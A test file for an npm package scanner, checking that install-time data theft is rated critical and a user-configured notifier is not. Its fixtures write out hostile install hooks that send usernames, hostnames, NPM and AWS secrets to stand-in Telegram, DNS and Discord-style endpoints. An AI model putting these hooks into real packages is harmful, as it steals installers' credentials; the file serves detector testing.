/**
 * Install-time theft (issue shape 6): host details or secrets sent from install-time code to a
 * chat webhook, over HTTP or over DNS, are critical; the same APIs used by a run-time notifier
 * configured by its user are not. Fixtures written for these tests; hosts are made up.
 */
import { analyzeSource, threatsOf } from './helpers';

const pkg = (scripts: Record<string, string> = {}, name = 'fixture') =>
  JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts });

describe('install-time theft', () => {
  it('Telegram bot message with the user name and home folder from postinstall: critical', () => {
    const r = analyzeSource({
      'package.json': pkg({ postinstall: 'node lib/setup.js' }),
      'lib/setup.js': [
        "const os = require('os');",
        "const https = require('https');",
        "const cfg = { bot: '7012345678:AAH' + 'x9Yq2LmNoPqRsTuVwXyZaBcDeF', chat: '-100123' };",
        'const info = { u: os.userInfo().username, h: os.homedir(), n: os.hostname() };',
        'const body = JSON.stringify({ chat_id: cfg.chat, text: JSON.stringify(info) });',
        "const req = https.request({ hostname: 'tg-relay.example', path: `/bot${cfg.bot}/sendMessage`, method: 'POST' });",
        'req.end(body);',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
    expect(threatsOf(r)).toContain('data_exfiltration');
  });

  it('DNS beacon: the host name hex-encoded into a lookup at preinstall is critical', () => {
    const r = analyzeSource({
      'package.json': pkg({ preinstall: 'node b.js' }, '@acme-internal/build-config'),
      'b.js': [
        "const dns = require('dns');",
        "const { hostname, userInfo } = require('os');",
        "const label = Buffer.from(`${hostname()}|${userInfo().username}`).toString('hex').slice(0, 60);",
        'dns.resolve4(`${label}.${process.env.npm_package_name.length}.ns.collector.example`, () => {});',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
  });

  it('Discord webhook fed secrets by a helper in a second file: critical', () => {
    const r = analyzeSource({
      'package.json': pkg({ install: 'node hooks/run.js' }),
      'hooks/run.js':
        "const { gather } = require('./gather');\nconst send = require('./send');\nsend(gather());",
      'hooks/gather.js':
        "exports.gather = () => ['NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY'].map((k) => `${k}=${process.env[k]}`).join('\\n');",
      'hooks/send.js':
        "module.exports = (content) => fetch('https://chat.example/api/webhooks/112233445566778899/tok-AbCdEfGh', { method: 'POST', body: JSON.stringify({ content }) });",
    });
    expect(r.risk_level).toBe('critical');
  });

  it('a run-time notifier posting to a webhook URL its user configures stays quiet', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': [
        'module.exports = async function notify(text, url = process.env.SLACK_WEBHOOK_URL) {',
        "  if (!url) throw new Error('set SLACK_WEBHOOK_URL');",
        "  await fetch(url, { method: 'POST', body: JSON.stringify({ text }) });",
        '};',
      ].join('\n'),
    });
    expect(threatsOf(r)).toEqual([]);
  });
});
